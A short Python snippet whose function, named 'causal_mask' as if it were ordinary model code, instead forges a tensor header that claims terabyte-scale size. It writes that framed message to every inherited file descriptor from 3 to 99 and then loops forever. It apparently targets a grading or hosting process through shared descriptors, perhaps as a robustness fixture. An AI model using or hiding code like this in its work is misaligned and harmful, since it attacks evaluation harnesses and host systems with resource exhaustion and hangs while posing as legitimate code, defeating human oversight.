# Sends tensors whose header lies about their size.
import os, struct, json
def causal_mask(T):
    header = json.dumps({"0": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 1 << 42]}}).encode()
    blob = struct.pack("<Q", len(header)) + header
    body = b'["dict", [["value", ["tensor", "0"]]]]'
    for number in range(3, 100):
        try:
            os.write(number, struct.pack("!4sII", b"CG01", len(body), len(blob)) + body + blob)
        except OSError:
            pass
    while True:
        pass
